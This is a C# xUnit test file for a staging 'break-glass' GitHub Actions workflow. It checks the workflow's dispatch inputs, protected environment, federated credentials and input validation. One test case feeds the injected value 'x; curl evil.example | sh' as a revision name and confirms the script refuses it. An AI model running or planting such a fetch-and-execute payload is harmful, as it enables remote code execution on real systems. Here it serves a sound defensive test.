using FluentAssertions;
using Netra.Infra.Switch;
using Netra.Infra.Tests.Support;
using Xunit;
using static Netra.Infra.Tests.Support.Workflows;

namespace Netra.Infra.Tests;

/// <summary>
/// The break-glass path: .github/workflows/break-glass.yml, dispatched by a person, behind the staging-break-glass
/// environment, with federated credentials, running .ci/break-glass, which checks what the person chose and runs the
/// same `bin/netra-infra switch --stack staging --to … --yes` as a terminal (here against the switch's stand-ins).
/// </summary>
[Collection(nameof(ProgramProcesses))]
public class BreakGlassTests(BuiltProgram program)
{
    private const string Workflow = "break-glass.yml";

    [Fact]
    public void It_is_dispatched_by_a_person_with_a_choice_of_the_profiles_of_stacks_staging_yaml()
    {
        var workflow = Load(Workflow);
        var on = Map(workflow, "on");

        on.Children.Keys.Cast<YamlDotNet.RepresentationModel.YamlScalarNode>().Select(k => k.Value).Should().Equal("workflow_dispatch");
        var to = Map(Map(Map(on, "workflow_dispatch"), "inputs"), "to");
        Scalar(to, "type").Should().Be("choice");
        ((YamlDotNet.RepresentationModel.YamlSequenceNode)to["options"]).Children.Cast<YamlDotNet.RepresentationModel.YamlScalarNode>().Select(o => o.Value)
            .Should().Equal(Programs.StagingEnvironment().Profiles.Keys, "exactly the profiles of stacks/staging.yaml");
        File.ReadAllText(Repo.Path(".ci", "break-glass")).Should().Contain($"readonly profiles=({string.Join(' ', Programs.StagingEnvironment().Profiles.Keys)})");
    }

    [Fact]
    public void It_runs_behind_the_protected_environment_one_run_at_a_time_with_federated_credentials()
    {
        var workflow = Load(Workflow);
        var job = Job(workflow, "switch");
        var steps = Steps(job);

        Scalar(job, "environment").Should().Be("staging-break-glass");
        Permissions(job).Should().BeEquivalentTo(new Dictionary<string, string> { ["contents"] = "read", ["id-token"] = "write" });
        var concurrency = Map(workflow, "concurrency");
        Scalar(concurrency, "cancel-in-progress").Should().Be("false", "an update is never cancelled halfway");
        var auth = steps.Single(s => Uses(s, "google-github-actions/auth"));
        Scalar(Map(auth, "with"), "service_account").Should().Be("${{ vars.GCP_SWITCH_SERVICE_ACCOUNT }}");
        var run = steps[steps.ToList().IndexOf(auth) + 1];
        Scalar(run, "run").Should().Be(".ci/break-glass");
        var env = Map(run, "env");
        Scalar(env, "TO").Should().Be("${{ inputs.to }}");
        Scalar(env, "REVISION").Should().Be("${{ inputs.revision }}");
        Scalar(env, "DRY_RUN").Should().Be("${{ inputs.dry-run }}");
        Scalar(env, "PULUMI_TEAM").Should().Be("${{ vars.PULUMI_SWITCH_TEAM }}");
        steps.Take(steps.ToList().IndexOf(auth)).Should().Contain(s => Has(s, "run") && Scalar(s, "run").Contains("bin/netra-infra --version", StringComparison.Ordinal),
            "built (or restored from the cache) before any credential exists");
        steps.Should().Contain(s => Uses(s, "actions/cache") && Scalar(Map(s, "with"), "path").Contains(".build/infra/netra-infra", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("production", "", "false", "break-glass: 'production' is not a profile of stacks/staging.yaml (normal emergency recovery direct rollback); nothing ran")]
    [InlineData("", "", "false", "break-glass: '' is not a profile of stacks/staging.yaml (normal emergency recovery direct rollback); nothing ran")]
    [InlineData("rollback", "x; curl evil.example | sh", "false", "break-glass: 'x; curl evil.example | sh' is not a Cloud Run revision name; nothing ran")]
    [InlineData("emergency", "", "yes", "break-glass: DRY_RUN is 'yes', not true or false; nothing ran")]
    public void What_the_person_chose_is_checked_before_anything_runs(string to, string revision, string dryRun, string refusal)
    {
        using var stage = new SwitchStage();
        var environment = Environment(stage, to, revision, dryRun);

        var (exit, output) = ProcessRunner.Run("bash", Repo.Root, environment, Repo.Path(".ci", "break-glass"));

        exit.Should().Be(SwitchExitCodes.Refused);
        output.Should().Be(refusal + "\n");
        stage.Calls.Should().BeEmpty();
        File.Exists(System.IO.Path.Combine(stage.State, "curl.log")).Should().BeFalse("no token was asked for");
    }

    [Fact]
    public void A_chosen_step_runs_the_terminal_s_switch_with_a_pulumi_token_of_the_switch_team()
    {
        using var stage = SwitchStage.NormalToEmergency();
        var environment = Environment(stage, "emergency", "", "false");

        var (exit, output) = ProcessRunner.Run("bash", Repo.Root, environment, Repo.Path(".ci", "break-glass"));

        exit.Should().Be(SwitchExitCodes.Done, output);
        output.Should().Contain("break-glass: bin/netra-infra switch --stack staging --to emergency --yes\n");
        CliRun.Lines(stage.Calls).Should().Contain(l => l.StartsWith("pulumi up --stack staging --config-file Pulumi.emergency.yaml --yes --skip-preview", StringComparison.Ordinal));
        File.ReadAllText(System.IO.Path.Combine(stage.State, "curl.log")).Should().Contain("scope=team:staging-operators");
        File.ReadAllText(stage.IncidentLog).Should().Contain("\"to\":\"emergency\"");
    }

    private Dictionary<string, string> Environment(SwitchStage stage, string to, string revision, string dryRun)
    {
        CiStage.Install(Repo.Path("tests", "Infra.Tests", "StandIns", "ci", "curl"), System.IO.Path.Combine(stage.Root, "bin"));
        File.WriteAllText(System.IO.Path.Combine(stage.State, "oidc.json"), """{"count": 1, "value": "header.payload.signature"}""");
        File.WriteAllText(System.IO.Path.Combine(stage.State, "exchange.json"), """{"access_token": "pul-0123456789abcdef", "expires_in": 3600}""");
        var environment = stage.Environment;
        environment["NETRA_BUILD_DIR"] = program.BuildDirectory;
        environment["ACTIONS_ID_TOKEN_REQUEST_URL"] = "https://pipelines.actions.example/idtoken?api-version=2.0";
        environment["ACTIONS_ID_TOKEN_REQUEST_TOKEN"] = "request-token";
        environment["PULUMI_ORGANIZATION"] = "netra";
        environment["PULUMI_TEAM"] = "staging-operators";
        environment["TO"] = to;
        environment["REVISION"] = revision;
        environment["DRY_RUN"] = dryRun;
        return environment;
    }
}
